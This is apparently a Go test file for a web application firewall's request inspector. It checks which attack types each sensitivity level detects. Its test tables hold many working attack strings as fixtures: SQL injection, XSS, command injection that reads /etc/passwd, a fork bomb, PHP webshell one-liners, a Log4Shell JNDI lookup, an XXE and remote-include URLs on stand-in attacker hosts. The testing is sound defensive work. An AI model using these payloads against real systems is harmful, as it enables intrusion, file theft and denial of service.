package inspect_test

import (
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/rampartsec/rampart/internal/inspect"
	"github.com/rampartsec/rampart/internal/rampart"
)

func param(v string) *inspect.Request {
	return &inspect.Request{Method: "GET", Path: "/search", Params: []inspect.Pair{{Name: "q", Value: v}}}
}

func header(name, v string) *inspect.Request {
	return &inspect.Request{Method: "GET", Path: "/", Headers: []inspect.Pair{{Name: name, Value: v}}}
}

func body(contentType, b string) *inspect.Request {
	return &inspect.Request{Method: "POST", Path: "/submit", Body: []byte(b), BodyType: contentType}
}

// TestAttackTypesByLevel checks, for each attack type, what each level
// reports: the attack type and location, or nothing ("").
func TestAttackTypesByLevel(t *testing.T) {
	tests := []struct {
		name string
		req  *inspect.Request
		want [3]string // attack type at levels 1, 2, 3
		loc  string
	}{
		{"sqli/tautology", param("' OR '1'='1"), [3]string{"sqli", "sqli", "sqli"}, "params"},
		{"sqli/union", param("-1 union select password from users"), [3]string{"sqli", "sqli", "sqli"}, "params"},
		{"sqli/login bypass comment", param("admin' #"), [3]string{"sqli", "sqli", "sqli"}, "params"},
		{"sqli/subquery", param("1 and exists(select * from information_schema.tables)"), [3]string{"sqli", "sqli", "sqli"}, "params"},
		{"sqli/double encoded", param("%2527%2520OR%25201%253D1--"), [3]string{"", "sqli", "sqli"}, "params"},
		{"sqli/in path", &inspect.Request{Path: "/item/1' OR '1'='1"}, [3]string{"sqli", "sqli", "sqli"}, "url"},
		{"xss/script tag", param("<script>alert(1)</script>"), [3]string{"xss", "xss", "xss"}, "params"},
		{"xss/entity encoded", param("&lt;svg onload=alert(1)&gt;"), [3]string{"xss", "xss", "xss"}, "params"},
		{"xss/full width %u", param("%uff1cscript%uff1ealert(1)%uff1c/script%uff1e"), [3]string{"xss", "xss", "xss"}, "params"},
		{"xss/fromCharCode", param("';alert(String.fromCharCode(88))//"), [3]string{"xss", "xss", "xss"}, "params"},
		{"xss/cookie", &inspect.Request{Cookies: []inspect.Pair{{Name: "c", Value: "<img src=x onerror=alert(1)>"}}}, [3]string{"xss", "xss", "xss"}, "cookie"},
		{"cmdi/separator", param("127.0.0.1; cat /etc/passwd"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
		{"cmdi/ifs", param("a${IFS}b"), [3]string{"", "cmdi", "cmdi"}, "params"},
		{"cmdi/backticks", param("`id`"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
		{"cmdi/windows for loop", param(`for /f "delims=" %i in ('whoami') do echo %i`), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
		{"cmdi/windows if comparison", param(`IF (2 GEQ 15) echo "bigger"`), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
		{"cmdi/windows if exist", param("IF NOT EXIST C:\\nonexistent CMD"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
		{"cmdi/windows if string comparison", param("if red==red echo test"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
		{"clean/if in a sentence", param("if defined as a set of rules, call us"), [3]string{"", "", ""}, ""},
		{"cmdi/fork bomb", param(".(){ .|.& };."), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
		{"cmdi/shell alias", param("alias a=c${KK}url&a google.com"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
		{"clean/alias in a sentence", param("alias names = nicknames"), [3]string{"", "", ""}, ""},
		{"cmdi/command line", param("ifconfig -a"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
		{"cmdi/command line ending in a newline", param("nohup ifconfig\n"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
		{"cmdi/perl necklace is no command line", param("perl necklace"), [3]string{"", "", ""}, "params"},
		{"vuln/java gadget chain", param("ProcessBuilder.evil.invokertransformer"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"vuln/java class", param("java.io.ObjectInputStream"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"vuln/php variable function", param("$__['o'](5)"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"cmdi/multipart with bare LF lines", body("multipart/form-data; boundary=X", "--X\nContent-Disposition: form-data; name=\"host\"\n\n127.0.0.1; cat /etc/passwd\n--X--\n"), [3]string{"cmdi", "cmdi", "cmdi"}, "body"},
		{"vuln/server-side include", param(`<!--#exec cmd="ls"-->`), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"vuln/ldap filter injection", param("*)(uid=*))(|(uid=*"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"cmdi/english after a separator", param("Photo; ID"), [3]string{"", "", ""}, "params"},
		{"cmdi/lower-case word, separator and space before id (level 1 takes it for prose)", param("photo; id"), [3]string{"", "cmdi", "cmdi"}, "params"},
		{"cmdi/host name glued to id", param("google.com;id"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
		{"cmdi/and-and before id", param("x && id"), [3]string{"", "cmdi", "cmdi"}, "params"},
		{"cmdi/quoted command", param(";w'h'o'am'i"), [3]string{"", "cmdi", "cmdi"}, "params"},
		{"cmdi/pipe with flag", param("x | grep -v y"), [3]string{"", "cmdi", "cmdi"}, "params"},
		{"vuln/node process", param("#{process.binding(foo).spawn(foo2)}"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"vuln/prototype through brackets", &inspect.Request{Method: "GET", Path: "/", Params: []inspect.Pair{{Name: "a[constructor][prototype][onerror]", Value: "a"}}}, [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"clean/process word", param("the application process. Next step"), [3]string{"", "", ""}, ""},
		{"vuln/javascript endless loop", param("while(!NaN)"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"clean/while in a sentence", param("call me while (in transit)"), [3]string{"", "", ""}, ""},
		{"clean/loop that never runs", param("while(!true);"), [3]string{"", "", ""}, ""},
		{"vuln/php short open tag", param("<? echo 'hello'; ?>"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"vuln/php superglobal", param("$_SERVER['test'];"), [3]string{"", "vuln", "vuln"}, "params"},
		{"clean/xml body", body("application/xml", `<?xml version="1.0"?><a>1</a>`), [3]string{"", "", ""}, ""},
		{"vuln/php system", param("system('id')"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"webshell/php one-liner", param("eval($_POST['x'])"), [3]string{"webshell", "webshell", "webshell"}, "params"},
		{"vuln/log4shell header", header("User-Agent", "${jndi:ldap://203.0.113.9/a}"), [3]string{"vuln", "vuln", "vuln"}, "header"},
		{"vuln/ognl", param("%{(#_memberAccess['allowStaticMethodAccess']=true)}"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"vuln/template arithmetic", param("{{7*7}}"), [3]string{"", "vuln", "vuln"}, "params"},
		{"vuln/template expression", param("{{user.name}}"), [3]string{"", "", "vuln"}, "params"},
		{"vuln/header injection", param("x\r\nSet-Cookie: a=b"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"vuln/null byte", param("a.php\x00.jpg"), [3]string{"", "vuln", "vuln"}, "params"},
		{"vuln/xxe", body("application/xml", `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`), [3]string{"vuln", "vuln", "vuln"}, "body"},
		{"lfi/traversal", param("../../../etc/passwd"), [3]string{"lfi", "lfi", "lfi"}, "params"},
		{"lfi/wrapper", param("php://filter/resource=index.php"), [3]string{"lfi", "lfi", "lfi"}, "params"},
		{"lfi/dot git", &inspect.Request{Path: "/.git/config"}, [3]string{"lfi", "lfi", "lfi"}, "url"},
		{"lfi/assistant config directory", &inspect.Request{Path: "/.codex/config.toml"}, [3]string{"lfi", "lfi", "lfi"}, "url"},
		{"lfi/ignore file", &inspect.Request{Path: "/.cursorignore"}, [3]string{"lfi", "lfi", "lfi"}, "url"},
		{"lfi/error log", &inspect.Request{Path: "/wp-content/errors.log"}, [3]string{"lfi", "lfi", "lfi"}, "url"},
		{"clean/page named like a tool", &inspect.Request{Path: "/blog/codex-review"}, [3]string{"", "", ""}, ""},
		{"lfi/single parent to a config file", param("../config.php"), [3]string{"", "lfi", "lfi"}, "params"},
		{"lfi/overlong utf-8 slashes", param("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"), [3]string{"lfi", "lfi", "lfi"}, "params"},
		{"lfi/single parent", param("../index.html"), [3]string{"", "", "lfi"}, "params"},
		{"rfi/ip address", param("http://203.0.113.9/x"), [3]string{"rfi", "rfi", "rfi"}, "params"},
		{"rfi/unbracketed ipv6", param("https://2001:41d0:701:1100::29c8/gecko.php"), [3]string{"rfi", "rfi", "rfi"}, "params"},
		{"rfi/encoded slash before the user part", param("http://example.com%2f@evil.com/"), [3]string{"rfi", "rfi", "rfi"}, "params"},
		{"rfi/include global as a parameter name", &inspect.Request{Method: "GET", Path: "/a.php", Params: []inspect.Pair{{Name: "mosConfig_absolute_path", Value: "https://foo.bar"}}}, [3]string{"rfi", "rfi", "rfi"}, "params"},
		{"clean/time in a URL", param("https://example.com/watch?t=12:30"), [3]string{"", "", ""}, ""},
		{"rfi/trailing question mark", param("https://evil.example/c99.txt?"), [3]string{"rfi", "rfi", "rfi"}, "params"},
		{"rfi/jsp", param("https://evil.example/a.jsp"), [3]string{"", "", "rfi"}, "params"},
		{"robot/sqlmap", header("User-Agent", "sqlmap/1.7.2#stable"), [3]string{"robot", "robot", "robot"}, "header"},
		{"vuln/exploit endpoint", &inspect.Request{Path: "/_ignition/execute-solution"}, [3]string{"vuln", "vuln", "vuln"}, "url"},
		{"vuln/thinkphp without a leading backslash", param("index/think\\app/invokefunction"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"vuln/drupalgeddon2 element_parents", param("account/mail/#value"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"vuln/thinkcmf php tag", param("<php>die(@md5(HelloThinkCMF))</php>"), [3]string{"vuln", "vuln", "vuln"}, "params"},
		{"clean/cgi-bin page", &inspect.Request{Path: "/cgi-bin/search.cgi"}, [3]string{"", "", ""}, ""},
		{"robot/zap", header("User-Agent", "Mozilla/5.0 (compatible; ZAP)"), [3]string{"robot", "robot", "robot"}, "header"},
		{"robot/feroxbuster", header("User-Agent", "feroxbuster/2.10.1"), [3]string{"robot", "robot", "robot"}, "header"},
		{"webshell/htaccess upload", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\".htaccess\"\r\nContent-Type: image/png\r\n\r\nhello\r\n--XX--\r\n"), [3]string{"webshell", "webshell", "webshell"}, "body"},
		{"webshell/php handler in an upload", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\nAddType application/x-httpd-php .jpg\r\n--XX--\r\n"), [3]string{"webshell", "webshell", "webshell"}, "body"},
		{"clean/upload named like a config", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"htaccess-notes.pdf\"\r\n\r\nhello\r\n--XX--\r\n"), [3]string{"", "", ""}, ""},
		{"robot/headless", header("User-Agent", "Mozilla/5.0 HeadlessChrome/120.0"), [3]string{"", "", "robot"}, "header"},
		{"webshell/upload name", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"s.php\"\r\n\r\nhello\r\n--XX--\r\n"), [3]string{"webshell", "webshell", "webshell"}, "body"},
		{"webshell/upload content", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\n<?php @eval($_POST['p']); ?>\r\n--XX--\r\n"), [3]string{"webshell", "webshell", "webshell"}, "body"},
		{"form body", body("application/x-www-form-urlencoded", "a=1&q=1%27+OR+%271%27%3D%271"), [3]string{"sqli", "sqli", "sqli"}, "body"},
		{"form body, spaces as plus", body("application/x-www-form-urlencoded", "q=1+union+select+password+from+users"), [3]string{"sqli", "sqli", "sqli"}, "body"},
		{"json body", body("application/json", `{"a":{"b":["x","<script>alert(1)</script>"]}}`), [3]string{"xss", "xss", "xss"}, "body"},
		{"multipart text field", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' OR 1=1--\r\n--XX--\r\n"), [3]string{"sqli", "sqli", "sqli"}, "body"},
		{"raw query when no params", &inspect.Request{Path: "/", RawQuery: "a=b&q=%3Cscript%3Ealert(1)%3C/script%3E"}, [3]string{"xss", "xss", "xss"}, "params"},
		{"clean/apostrophes", param("O'Brien's pub"), [3]string{"", "", ""}, ""},
		{"clean/json", body("application/json", `{"comment":"Don't hesitate -- it's great","rating":5}`), [3]string{"", "", ""}, ""},
		{"clean/browser agent", header("User-Agent", browserUA), [3]string{"", "", ""}, ""},
	}
	idPattern := regexp.MustCompile(`^[0-9]{6}$`)
	for _, tt := range tests {
		for level := 1; level <= 3; level++ {
			v := mustCompile(t, levelConfig(level)).Inspect(tt.req)
			if v.Attack != tt.want[level-1] {
				t.Errorf("%s at level %d: attack %q (rule %s, excerpt %q), want %q", tt.name, level, v.Attack, v.RuleID, v.Excerpt, tt.want[level-1])
				continue
			}
			if !v.Detected() {
				continue
			}
			if v.Location != tt.loc || !idPattern.MatchString(v.RuleID) || v.Excerpt == "" {
				t.Errorf("%s at level %d: location %q rule %q excerpt %q, want location %q and a 6-digit rule", tt.name, level, v.Location, v.RuleID, v.Excerpt, tt.loc)
			}
		}
	}
}

func TestConfigSwitches(t *testing.T) {
	sqli := param("' OR 1=1--")
	shell := body("application/json", `{"f":"<?php @eval($_REQUEST['x']);?>"}`)
	tests := []struct {
		name string
		cfg  inspect.Config
		req  *inspect.Request
		want string
	}{
		{"disabled", inspect.Config{Common: true, Webshell: true, Level: 2}, sqli, ""},
		{"common off", inspect.Config{Enabled: true, Webshell: true, Level: 2}, sqli, ""},
		{"common on", inspect.Config{Enabled: true, Common: true, Level: 2}, sqli, "sqli"},
		{"webshell on", inspect.Config{Enabled: true, Webshell: true, Level: 2}, shell, "webshell"},
		{"webshell off", inspect.Config{Enabled: true, Level: 2}, shell, ""},
		{"header ignored", levelConfig(2), header("Referer", "' OR 1=1--"), ""},
		{"check_all_headers", inspect.Config{Enabled: true, Common: true, Level: 2, CheckAllHeaders: true}, header("Referer", "' OR 1=1--"), "sqli"},
		{"cookie header left to cookies", inspect.Config{Enabled: true, Common: true, Level: 2, CheckAllHeaders: true}, header("Cookie", "a=1; b=x"), ""},
		{"base64 ignored", levelConfig(3), param("JyBPUiAnMSc9JzEnIC0t"), ""},
		{"deep_decode base64", inspect.Config{Enabled: true, Common: true, Level: 2, DeepDecode: true}, param("JyBPUiAnMSc9JzEnIC0t"), "sqli"},
		{"level 1 single decode", levelConfig(1), param("%25253Cscript%25253Ealert(1)%25253C/script%25253E"), ""},
		{"deep_decode triple", inspect.Config{Enabled: true, Common: true, Level: 1, DeepDecode: true}, param("%25253Cscript%25253Ealert(1)%25253C/script%25253E"), "xss"},
		{"smuggling", levelConfig(1), &inspect.Request{Headers: []inspect.Pair{{Name: "Content-Length", Value: "4"}, {Name: "Transfer-Encoding", Value: "chunked"}}}, "vuln"},
		{"obfuscated transfer-encoding", levelConfig(1), &inspect.Request{Headers: []inspect.Pair{{Name: "Transfer-Encoding", Value: "xchunked"}}}, "vuln"},
		{"chunked alone", levelConfig(1), &inspect.Request{Headers: []inspect.Pair{{Name: "Transfer-Encoding", Value: "chunked"}}}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := mustCompile(t, tt.cfg).Inspect(tt.req).Attack; got != tt.want {
				t.Fatalf("attack %q, want %q", got, tt.want)
			}
		})
	}
}

func TestCompileRejectsLevel(t *testing.T) {
	for _, level := range []int{0, 4, -1} {
		_, err := inspect.Compile(inspect.Config{Enabled: true, Common: true, Level: level})
		if rampart.ErrorKind(err) != rampart.KindInvalid {
			t.Errorf("level %d: error %v, want an invalid-argument error", level, err)
		}
	}
	if _, err := inspect.Compile(inspect.Config{Level: 0}); err != nil {
		t.Errorf("a disabled config needs no level: %v", err)
	}
}

func TestCacheSharesOneInspectorPerConfig(t *testing.T) {
	var c inspect.Cache
	a, err := c.Get(levelConfig(2))
	if err != nil {
		t.Fatal(err)
	}
	b, _ := c.Get(levelConfig(2))
	other, _ := c.Get(levelConfig(3))
	if a != b || a == other || c.Len() != 2 {
		t.Fatalf("same config gave %p and %p, other %p, %d compiled", a, b, other, c.Len())
	}
	if _, err := c.Get(inspect.Config{Enabled: true, Level: 9}); err == nil || c.Len() != 2 {
		t.Fatalf("invalid config: err %v, %d compiled", err, c.Len())
	}
}

func TestExcerptIsBoundedAndEscaped(t *testing.T) {
	payload := strings.Repeat("A", 300) + "\"><script>alert('\x01é')</script>" + strings.Repeat("B", 300)
	v := mustCompile(t, levelConfig(2)).Inspect(param(payload))
	if !v.Detected() {
		t.Fatal("not detected")
	}
	if !strings.Contains(v.Excerpt, "script") || len(v.Excerpt) > 4*inspect.MaxExcerptBytes {
		t.Fatalf("excerpt %q does not show the match or is too long (%d bytes)", v.Excerpt, len(v.Excerpt))
	}
	for _, r := range v.Excerpt {
		if r < 0x20 || r > 0x7e {
			t.Fatalf("excerpt %q holds an unescaped byte %q", v.Excerpt, r)
		}
	}
}

func TestInputsAreCutAtTheLimit(t *testing.T) {
	in := mustCompile(t, levelConfig(3))
	attack := "<script>alert(1)</script>"
	inside := strings.Repeat("a", inspect.MaxValueBytes-len(attack)) + attack
	beyond := strings.Repeat("a", inspect.MaxValueBytes) + attack
	if !in.Inspect(param(inside)).Detected() {
		t.Fatal("attack inside the limit not detected")
	}
	if in.Inspect(param(beyond)).Detected() {
		t.Fatal("value beyond MaxValueBytes inspected")
	}
	big := body("text/plain", strings.Repeat("x", inspect.MaxBodyBytes)+"<?php eval($_POST['a']); ?>")
	if in.Inspect(big).Detected() {
		t.Fatal("body beyond MaxBodyBytes inspected")
	}
	many := &inspect.Request{Path: "/"}
	for i := 0; i < inspect.MaxValues; i++ {
		many.Params = append(many.Params, inspect.Pair{Name: "", Value: "x"})
	}
	many.Params = append(many.Params, inspect.Pair{Name: "q", Value: attack})
	if in.Inspect(many).Detected() {
		t.Fatal("values beyond MaxValues inspected")
	}
}

// TestCleanRequestDoesNotAllocate holds a clean GET and a clean form to no
// allocation. (A value with quotes goes to libinjection, which allocates a
// little: see BenchmarkInspectCleanFormPOST.)
func TestCleanRequestDoesNotAllocate(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector makes sync.Pool drop buffers; run without -race")
	}
	in := mustCompile(t, levelConfig(2))
	form := body("application/x-www-form-urlencoded", "name=Jane+Doe&email=jane%40example.com&city=Dublin&message=See+you+at+5pm%2C+thanks%21")
	apostrophes := body("application/x-www-form-urlencoded", "name=Jane+O%27Neil&message=I%27d+like+to+see+Lyon%27s+old+town%2C+thanks")
	for _, r := range []*inspect.Request{cleanGET(), form, apostrophes, cleanFormPOST()} {
		if n := testing.AllocsPerRun(100, func() { in.Inspect(r) }); n != 0 {
			t.Errorf("%s %s: %.1f allocations per clean request, want 0", r.Method, r.Path, n)
		}
	}
}

func TestConcurrentUse(t *testing.T) {
	in := mustCompile(t, inspect.Config{Enabled: true, Common: true, Webshell: true, Level: 3, DeepDecode: true, CheckAllHeaders: true})
	attacks := loadCorpus(t, "attacks.txt", true)
	want := make([]inspect.Verdict, len(attacks))
	for i, it := range attacks {
		want[i] = in.Inspect(requestFor(it))
	}
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i, it := range attacks {
				if got := in.Inspect(requestFor(it)); got != want[i] {
					t.Errorf("%q: concurrent verdict %+v, alone %+v", it.Payload, got, want[i])
				}
			}
		}()
	}
	wg.Wait()
}

// TestUploadNameInAHeader: with check_all_headers, a header whose value is
// a PHP file name is a webshell upload; a header naming an image or
// holding a URL to a PHP page is not.
func TestUploadNameInAHeader(t *testing.T) {
	in := mustCompile(t, inspect.Config{Enabled: true, Common: true, Webshell: true, Level: 1, CheckAllHeaders: true})
	for value, want := range map[string]string{"a.php": "webshell", "photo. php": "webshell", "fda.php5...": "webshell", "photo.jpg": "", "https://example.com/index.php": ""} {
		if v := in.Inspect(header("X-File-Name", value)); v.Attack != want {
			t.Errorf("X-File-Name %q: %+v, want %q", value, v, want)
		}
	}
}
